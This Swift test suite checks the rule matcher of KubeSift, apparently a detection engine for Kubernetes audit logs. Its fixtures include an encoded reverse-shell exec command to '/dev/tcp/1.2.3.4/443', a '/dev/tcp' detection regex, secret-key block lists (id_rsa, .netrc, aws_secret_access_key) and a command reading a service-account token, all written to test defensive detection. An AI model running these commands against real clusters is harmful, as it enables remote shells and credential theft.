import Testing
@testable import KubeSiftCore

@Suite("Rule matching: fields, aliases and modifiers")
struct RuleMatcherTests {
    @Test("A selection map is AND, a value list is OR, strings compare case-insensitively")
    func andOrAndCase() throws {
        let rules = try RuleFixture.detection("""
            selection:
              verb: [create, update]
              objectRef.resource: Pods
            condition: selection
            """)
        #expect(try RuleFixture.matches(rules, #"{"verb":"update","objectRef":{"resource":"pods"}}"#))
        #expect(try !RuleFixture.matches(rules, #"{"verb":"delete","objectRef":{"resource":"pods"}}"#))
        #expect(try !RuleFixture.matches(rules, #"{"verb":"create","objectRef":{"resource":"secrets"}}"#))
    }

    /// 70,000 events, each with `filler(number)` as its own prefilter fields or identity (crafted
    /// input past the memos' limits), with an event by alice and one by bob after every 10,000:
    /// the rule (alice creating pods) matches alice's alone.
    private func checkPastTheLimit(_ filler: (Int) -> String) throws {
        let rules = try RuleFixture.detection("""
            selection:
              verb: create
              objectRef.resource: pods
              user.username: alice
            condition: selection
            """)
        var events: [JSONValue] = []
        var expected: [String] = []
        for number in 0..<70_000 {
            if number % 10_000 == 9_999 {
                for user in ["alice", "bob"] {
                    let auditID = "match-\(number)-\(user)"
                    // A response code of its own: a combination the memo has not seen either.
                    events.append(try RuleFixture.event(#"{"verb":"create","objectRef":{"resource":"pods"},"user":{"username":"\#(user)"},"auditID":"\#(auditID)","responseStatus":{"code":\#(number)}}"#))
                    if user == "alice" { expected.append(auditID) }
                }
            }
            events.append(try RuleFixture.event(filler(number)))
        }
        let classified = RuleExampleRunner.classify(events, ruleSet: rules)
        #expect(classified.hits.map(\.summary.auditID) == expected)
    }

    @Test("Past the memo's limit of prefilter combinations (crafted input), rules still match exactly")
    func pastTheMemoLimit() throws {
        try checkPastTheLimit { #"{"verb":"v\#($0)","objectRef":{"resource":"pods"},"user":{"username":"alice"}}"# }
    }

    @Test("Past the memos' limit of identities and of combinations with them (crafted input), rules still match exactly")
    func pastTheIdentityLimit() throws {
        // The same prefilter fields every time, a user of its own each time.
        try checkPastTheLimit { #"{"verb":"create","objectRef":{"resource":"pods"},"user":{"username":"u\#($0)"}}"# }
    }

    @Test("The identity memo tells an empty username from none: events of both, in either order, match as alone")
    func identityMemoTellsEmptyFromAbsent() throws {
        // A condition on the username alone is decided by the identity memo; one event must not
        // decide it for the other.
        let rules = try RuleFixture.detection("""
            selection:
              user.username|exists: false
            condition: selection
            """)
        let empty = #"{"verb":"get","objectRef":{"resource":"pods"},"user":{"username":""},"auditID":"empty"}"#
        let absent = #"{"verb":"get","objectRef":{"resource":"pods"},"user":{"username":null},"auditID":"absent"}"#
        for order in [[absent], [empty, absent], [absent, empty]] {
            let classified = RuleExampleRunner.classify(try order.map { try RuleFixture.event($0) }, ruleSet: rules)
            #expect(classified.hits.map(\.summary.auditID) == ["absent"], "in the order \(order)")
        }
    }

    @Test("The memos key each field apart: the same bytes split another way, or a code logged or not, decide anew")
    func memoKeysTellFieldsApart() throws {
        let rules = try RuleFixture.detection("""
            selection:
              verb: get
              objectRef.resource: pods
              user.username: alice
              user.groups: admins
            filter_failed:
              responseStatus.code|gte: 400
            condition: selection and not filter_failed
            """)
        // The same bytes in every field but split differently: the prefilter's verb and resource,
        // the identity's user and groups (a group list is keyed as logged).
        let match = #"{"verb":"get","objectRef":{"resource":"pods"},"user":{"username":"alice","groups":["admins"]},"auditID":"match"}"#
        let verbShifted = #"{"verb":"getp","objectRef":{"resource":"ods"},"user":{"username":"alice","groups":["admins"]},"auditID":"verb"}"#
        let userShifted = #"{"verb":"get","objectRef":{"resource":"pods"},"user":{"username":"alicea","groups":["dmins"]},"auditID":"user"}"#
        let failed = #"{"verb":"get","objectRef":{"resource":"pods"},"user":{"username":"alice","groups":["admins"]},"responseStatus":{"code":403},"auditID":"failed"}"#
        for order in [[match, verbShifted, userShifted, failed], [failed, userShifted, verbShifted, match]] {
            let classified = RuleExampleRunner.classify(try order.map { try RuleFixture.event($0) }, ruleSet: rules)
            #expect(classified.hits.map(\.summary.auditID) == ["match"], "in the order \(order)")
        }
    }

    @Test("A condition on a body the event did not log is decided by the prefilter, as it would be in full, in any order")
    func missingBodyDecidedByPrefilter() throws {
        // Same verb and resource throughout: only the bodies logged tell the events apart.
        let rules = try RuleFixture.detection("""
            without_spec:
              requestObject.spec|exists: false
            with_container:
              requestObject.spec.containers.name: app
            without_status:
              responseObject.status: null
            condition: (without_spec and without_status) or with_container
            """)
        let metadata = #"{"verb":"create","objectRef":{"resource":"pods"},"auditID":"metadata"}"#
        let withBody = #"{"verb":"create","objectRef":{"resource":"pods"},"requestObject":{"spec":{"containers":[{"name":"app"}]}},"auditID":"body"}"#
        let otherBody = #"{"verb":"create","objectRef":{"resource":"pods"},"requestObject":{"spec":{"containers":[{"name":"db"}]}},"auditID":"other"}"#
        let withResponse = #"{"verb":"create","objectRef":{"resource":"pods"},"responseObject":{"status":{"phase":"Pending"}},"auditID":"response"}"#
        for order in [[metadata, withBody, otherBody, withResponse], [withResponse, otherBody, withBody, metadata]] {
            let classified = RuleExampleRunner.classify(try order.map { try RuleFixture.event($0) }, ruleSet: rules)
            #expect(Set(classified.hits.map(\.summary.auditID)) == ["metadata", "body"], "in the order \(order)")
        }
    }

    @Test("A long `or` of keys skips its tests only when no key can be there: dotted, escaped and array keys still match")
    func keyGuardSkipsOnlyWhatCannotMatch() throws {
        let rules = try RuleFixture.detection("""
            keys:
              - requestObject.data.password: '*'
              - requestObject.data.PASSWORD: '*'
              - requestObject.data.api_key: '*'
              - requestObject.data.secret_key: '*'
              - requestObject.data.token: '*'
              - requestObject.data.private_key: '*'
              - requestObject.data.id_rsa: '*'
              - requestObject.data.tls.key: '*'
              - requestObject.data..netrc: '*'
            condition: keys
            """)
        let cases: [(body: String, matches: Bool)] = [
            (#"{"data":{"app.yaml":"port: 80","run.sh":"exit 0"}}"#, false),
            (#"{"data":{"app.yaml":"port: 80","api_key":"k"}}"#, true),
            (#"{"spec":{"replicas":1}}"#, false),
            (#"{"data":"not an object"}"#, false),
            // A key holding dots stands for the path's components.
            (#"{"data.password":"x"}"#, true),
            (#"{"data":{"tls.key":"pem"}}"#, true),
            (#"{"data":{".netrc":"machine"}}"#, true),
            // The same key spelled with an escape.
            (#"{"data":{"pass\u0077ord":"x"}}"#, true),
            // An array of objects is searched element by element.
            (#"{"data":[{"run.sh":"exit 0"},{"id_rsa":"key"}]}"#, true),
            (#"{"data":[{"run.sh":"exit 0"}]}"#, false),
        ]
        for (number, entry) in cases.enumerated() {
            let json = #"{"verb":"create","objectRef":{"resource":"configmaps"},"requestObject":\#(entry.body),"auditID":"e\#(number)"}"#
            #expect(try RuleFixture.matches(rules, json) == entry.matches, "\(entry.body)")
        }
        // Every case again in one run, through the memo, and evaluated without the guard: the same.
        let events = try cases.enumerated().map { number, entry in
            try RuleFixture.event(#"{"verb":"create","objectRef":{"resource":"configmaps"},"requestObject":\#(entry.body),"auditID":"e\#(number)"}"#)
        }
        let classified = RuleExampleRunner.classify(events, ruleSet: rules)
        let expected = cases.indices.filter { cases[$0].matches }.map { "e\($0)" }
        #expect(classified.hits.map(\.summary.auditID).sorted() == expected.sorted())
        let program = DetectionProgram(rules.detections[0].detection)
        let view = EventView()
        var unguarded: [String] = []
        for (number, event) in events.enumerated() {
            var bytes = Array(event.serialized().utf8)
            bytes.withUnsafeMutableBufferPointer { buffer in
                RecordDecoder().decode(UnsafePointer(buffer.baseAddress!), start: 0, end: buffer.count, emit: { scanned, base in
                    view.reset(scanned, base: base)
                    if program.evaluate({ RuleMatcher.test($0, view) }) { unguarded.append("e\(number)") }
                }, note: { _, _ in })
            }
        }
        #expect(unguarded == expected)
    }

    @Test("Arrays are searched element by element, at any depth of the path; `\\*` is a literal star")
    func anyElement() throws {
        let rules = try RuleFixture.detection("""
            selection:
              requestObject.rules.verbs: '\\*'
            condition: selection
            """)
        #expect(try RuleFixture.matches(rules, #"{"requestObject":{"rules":[{"verbs":["get"]},{"verbs":["list","*"]}]}}"#))
        #expect(try !RuleFixture.matches(rules, #"{"requestObject":{"rules":[{"verbs":["get"]},{"verbs":["list"]}]}}"#))
    }

    @Test("Keys that contain dots are found: annotations and the decision alias")
    func dottedKeys() throws {
        let written = try RuleFixture.detection("""
            selection:
              annotations.authorization.k8s.io/decision: forbid
            condition: selection
            """)
        let aliased = try RuleFixture.detection("""
            selection:
              decision: forbid
            condition: selection
            """)
        let event = #"{"annotations":{"authorization.k8s.io/decision":"forbid","authorization.k8s.io/reason":""}}"#
        #expect(try RuleFixture.matches(written, event))
        #expect(try RuleFixture.matches(aliased, event))
        #expect(try !RuleFixture.matches(aliased, #"{"annotations":{"authorization.k8s.io/decision":"allow"}}"#))
    }

    @Test("A `*` component searches every member of a map")
    func anyMember() throws {
        let rules = try RuleFixture.detection("""
            selection:
              requestObject.data.*|contains: aws_secret_access_key
            condition: selection
            """)
        #expect(try RuleFixture.matches(rules, #"{"requestObject":{"data":{"a":"x","creds.ini":"[default]\naws_secret_access_key = abc"}}}"#))
        #expect(try !RuleFixture.matches(rules, #"{"requestObject":{"data":{"aws_secret_access_key":"abc"}}}"#))
    }

    @Test("podContainers reaches pods, workload templates, CronJob templates and every container kind",
          arguments: [
              #"{"requestObject":{"spec":{"containers":[{"name":"a"},{"name":"b","securityContext":{"privileged":true}}]}}}"#,
              #"{"requestObject":{"spec":{"template":{"spec":{"initContainers":[{"securityContext":{"privileged":true}}]}}}}}"#,
              #"{"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"securityContext":{"privileged":true}}]}}}}}}}"#,
              #"{"requestObject":{"spec":{"ephemeralContainers":[{"securityContext":{"privileged":true}}]}}}"#,
          ])
    func podContainers(event: String) throws {
        let rules = try RuleFixture.detection("""
            selection:
              privileged: true
            condition: selection
            """)
        #expect(try RuleFixture.matches(rules, event))
    }

    @Test("An unprivileged pod does not match, nor does `privileged: false`")
    func unprivileged() throws {
        let rules = try RuleFixture.detection("""
            selection:
              podContainers.securityContext.privileged: true
            condition: selection
            """)
        #expect(try !RuleFixture.matches(rules, #"{"requestObject":{"spec":{"containers":[{"securityContext":{"privileged":false}}]}}}"#))
        #expect(try !RuleFixture.matches(rules, #"{"requestObject":{"spec":{"containers":[{"name":"x"}]}}}"#))
    }

    @Test("pySigma's `hostPath: '*'` matches any hostPath volume and nothing else")
    func hostPathPresence() throws {
        let rules = try RuleFixture.detection("""
            selection:
              hostPath: '*'
            condition: selection
            """)
        #expect(try RuleFixture.matches(rules, #"{"requestObject":{"spec":{"volumes":[{"name":"r","hostPath":{"path":"/"}}]}}}"#))
        #expect(try !RuleFixture.matches(rules, #"{"requestObject":{"spec":{"volumes":[{"name":"e","emptyDir":{}}]}}}"#))
    }

    @Test("contains, startswith, endswith, wildcards and escaped wildcards")
    func textModifiers() throws {
        let rules = try RuleFixture.detection("""
            contains:
              userAgent|contains: python
            prefix:
              requestURI|startswith: /api/v1/secrets
            suffix:
              objectRef.name|endswith: -token
            wild:
              user.username: 'system:serviceaccount:*:default'
            literal:
              objectRef.namespace: 'a\\*b'
            condition: 1 of them
            """)
        #expect(try RuleFixture.matches(rules, #"{"userAgent":"Python-urllib/3.11"}"#))
        #expect(try RuleFixture.matches(rules, #"{"requestURI":"/api/v1/secrets?limit=500"}"#))
        #expect(try RuleFixture.matches(rules, #"{"objectRef":{"name":"ci-token"}}"#))
        #expect(try RuleFixture.matches(rules, #"{"user":{"username":"system:serviceaccount:shop:default"}}"#))
        #expect(try RuleFixture.matches(rules, #"{"objectRef":{"namespace":"a*b"}}"#))
        #expect(try !RuleFixture.matches(rules, #"{"objectRef":{"namespace":"aXb"}}"#))
        #expect(try !RuleFixture.matches(rules, #"{"user":{"username":"system:serviceaccount:shop:frontend"}}"#))
    }

    @Test("all, re, cidr, exists, numeric comparisons, neq, cased, base64 and null")
    func otherModifiers() throws {
        func check(_ detection: String, matches: [String], misses: [String]) throws {
            let rules = try RuleFixture.detection(detection + "\ncondition: selection")
            for event in matches { #expect(try RuleFixture.matches(rules, event), "\(detection) should match \(event)") }
            for event in misses { #expect(try !RuleFixture.matches(rules, event), "\(detection) should not match \(event)") }
        }
        try check("selection:\n  requestObject.rules.verbs|all: [get, list]",
                  matches: [#"{"requestObject":{"rules":[{"verbs":["get"]},{"verbs":["list"]}]}}"#],
                  misses: [#"{"requestObject":{"rules":[{"verbs":["get"]}]}}"#])
        try check("selection:\n  execCommand|re: '/dev/(tcp|udp)/'",
                  matches: [#"{"requestURI":"/api/v1/namespaces/a/pods/b/exec?command=bash&command=-c&command=sh+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F443"}"#],
                  misses: [#"{"requestURI":"/api/v1/namespaces/a/pods/b/exec?command=ls"}"#])
        try check("selection:\n  sourceIPs|cidr: 203.0.113.0/24",
                  matches: [#"{"sourceIPs":["10.0.0.1","203.0.113.77"]}"#],
                  misses: [#"{"sourceIPs":["10.0.0.1"]}"#, #"{"sourceIPs":["not-an-ip"]}"#])
        try check("selection:\n  sourceIPs|cidr: 'fc00::/7'",
                  matches: [#"{"sourceIPs":["fd12:3456::1"]}"#], misses: [#"{"sourceIPs":["2001:db8::1"]}"#])
        try check("selection:\n  requestObject.spec.tls|exists: false",
                  matches: [#"{"requestObject":{"spec":{"rules":[]}}}"#],
                  misses: [#"{"requestObject":{"spec":{"tls":[{"hosts":["a"]}]}}}"#])
        try check("selection:\n  responseStatus.code|gte: 400",
                  matches: [#"{"responseStatus":{"code":403}}"#], misses: [#"{"responseStatus":{"code":201}}"#, #"{"responseStatus":null}"#])
        try check("selection:\n  verb|neq: get", matches: [#"{"verb":"list"}"#], misses: [#"{"verb":"get"}"#])
        try check("selection:\n  objectRef.name|cased: Admin",
                  matches: [#"{"objectRef":{"name":"Admin"}}"#], misses: [#"{"objectRef":{"name":"admin"}}"#])
        try check("selection:\n  requestObject.data.x|base64|contains: secret",
                  matches: [#"{"requestObject":{"data":{"x":"bXktc2VjcmV0LXZhbHVl"}}}"#.replacingOccurrences(of: "bXktc2VjcmV0LXZhbHVl", with: "c2VjcmV0")],
                  misses: [#"{"requestObject":{"data":{"x":"cHVibGlj"}}}"#])
        try check("selection:\n  impersonatedUser: null",
                  matches: [#"{"verb":"get"}"#], misses: [#"{"impersonatedUser":{"username":"admin"}}"#])
        try check("selection:\n  responseStatus.code: 401",
                  matches: [#"{"responseStatus":{"code":401}}"#], misses: [#"{"responseStatus":{"code":403}}"#])
    }

    @Test("The exec command alias decodes the repeated command= parameters")
    func execCommand() {
        #expect(RequestURI.command(of: "/api/v1/namespaces/a/pods/b/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Ftoken&stdout=true")
            == "cat /var/run/secrets/token")
        #expect(RequestURI.command(of: "/api/v1/namespaces/a/pods/b/exec?container=x") == nil)
        #expect(RequestURI.command(of: "/api/v1/namespaces/a/pods/b/exec?command=sh+-c&command=echo%zz") == "sh -c echo%zz")
    }

    @Test("The prefilter never rules out an event the full evaluation matches")
    func prefilterIsSound() throws {
        let rules = try RuleFixture.ruleSet(
            RuleFixture.yaml(name: "a", detection: "sel:\n  verb: create\n  objectRef.resource: pods\ncondition: sel"),
            RuleFixture.yaml(name: "b", detection: "sel:\n  verb: delete\nfilter:\n  objectRef.subresource: status\ncondition: sel and not filter"),
            RuleFixture.yaml(name: "c", detection: "sel:\n  responseStatus.code: 401\ncondition: sel or not sel"),
            RuleFixture.yaml(name: "d", detection: "sel:\n  objectRef.resource: null\ncondition: not sel"),
            RuleFixture.yaml(name: "e", detection: "sel:\n  verb|contains: e\n  user.username|startswith: 'system:'\ncondition: sel"))
        let verbs = ["create", "delete", "get", "deletecollection"]
        let resources: [String?] = ["pods", "secrets", nil]
        let subresources: [String?] = ["status", "exec", nil]
        let users = ["system:admin", "alice"]
        for verb in verbs {
            for resource in resources {
                for subresource in subresources {
                    for user in users {
                        var objectRef = ""
                        if let resource {
                            objectRef = #","objectRef":{"resource":"\#(resource)""# + (subresource.map { #","subresource":"\#($0)""# } ?? "") + "}"
                        }
                        let json = #"{"verb":"\#(verb)","user":{"username":"\#(user)"}\#(objectRef)}"#
                        let event = try RuleFixture.event(json)
                        let viaMatcher = Set(RuleExampleRunner.matchingRules(for: event, ruleSet: rules))
                        let direct = Set(rules.detections.filter { rule in
                            let view = EventView()
                            var bytes = Array(event.serialized().utf8)
                            return bytes.withUnsafeMutableBufferPointer { buffer in
                                var matched = false
                                RecordDecoder().decode(UnsafePointer(buffer.baseAddress!), start: 0, end: buffer.count, emit: { scanned, base in
                                    view.reset(scanned, base: base)
                                    matched = DetectionProgram(rule.detection).evaluate { RuleMatcher.test($0, view) }
                                }, note: { _, _ in })
                                return matched
                            }
                        }.map(\.metadata.name))
                        #expect(viaMatcher == direct, "\(json)")
                    }
                }
            }
        }
    }

    @Test("Programs folded for an event's verb, resource, subresource, API group and code decide as the full ones")
    func foldedProgramsDecideAsFullOnes() throws {
        // Every example event of the built-in catalog, classified by one matcher: most share their
        // prefilter fields with an earlier one, so they run the memo's folded programs.
        let rules = try RuleCatalog.ruleSet(extraPaths: [], disabled: [])
        let examples: [RuleExamples] = rules.detections.map(\.metadata.examples) + rules.correlations.map(\.rule.metadata.examples)
        let events: [JSONValue] = examples.flatMap { ($0.match + $0.noMatch).flatMap(\.events) }
        #expect(events.count > 500)
        let classified = RuleExampleRunner.classify(events, ruleSet: rules)
        let viaMatcher = Set(classified.hits.map { "\($0.location.sequence) \(rules.detections[$0.rule].metadata.name)" })
        let programs = rules.detections.map { DetectionProgram($0.detection) }
        var direct = Set<String>()
        let view = EventView()
        for (sequence, event) in events.enumerated() {
            var bytes = Array(event.serialized().utf8)
            bytes.withUnsafeMutableBufferPointer { buffer in
                RecordDecoder().decode(UnsafePointer(buffer.baseAddress!), start: 0, end: buffer.count, emit: { scanned, base in
                    view.reset(scanned, base: base)
                    for (index, program) in programs.enumerated() where program.evaluate({ RuleMatcher.test($0, view) }) {
                        direct.insert("\(sequence) \(rules.detections[index].metadata.name)")
                    }
                }, note: { _, _ in })
            }
        }
        #expect(viaMatcher == direct)
        #expect(direct.count > 300)
    }

    @Test("A compiled detection decides as the condition tree does, for every truth of its conditions")
    func programMatchesTree() throws {
        // Conditions are told apart by their field name; `truth` says which hold.
        func condition(_ name: String) -> FieldCondition {
            FieldCondition(written: name, sources: [], patterns: [])
        }
        let selections = [
            Selection(name: "a", alternatives: [[condition("a1"), condition("a2")], [condition("a3")]]),
            Selection(name: "b", alternatives: [[condition("b1")]]),
            Selection(name: "c", alternatives: [[condition("c1"), condition("c2")]]),
            Selection(name: "empty", alternatives: []),
            Selection(name: "always", alternatives: [[]]),
        ]
        func reference(_ expression: ConditionExpression, _ truth: Set<String>) -> Bool {
            switch expression {
            case let .selection(index):
                return selections[index].alternatives.contains { $0.allSatisfy { truth.contains($0.written) } }
            case let .and(terms): return terms.allSatisfy { reference($0, truth) }
            case let .or(terms): return terms.contains { reference($0, truth) }
            case let .not(term): return !reference(term, truth)
            }
        }
        let expressions: [ConditionExpression] = [
            .selection(0), .not(.selection(0)), .and([.selection(0), .not(.selection(1))]),
            .or([.and([.selection(0), .selection(2)]), .not(.or([.selection(1), .selection(2)]))]),
            .and([.or([.selection(0), .selection(1)]), .or([.selection(2), .not(.selection(0))]), .not(.not(.selection(1)))]),
            .selection(3), .not(.selection(3)), .selection(4), .and([.selection(4), .selection(1)]),
        ]
        let names = ["a1", "a2", "a3", "b1", "c1", "c2"]
        for expression in expressions {
            let program = DetectionProgram(Detection(selections: selections, condition: expression))
            for mask in 0..<(1 << names.count) {
                let truth = Set(names.indices.filter { mask & (1 << $0) != 0 }.map { names[$0] })
                #expect(program.evaluate { truth.contains($0.condition.written) } == reference(expression, truth), "\(expression) \(truth)")
            }
        }
    }
}
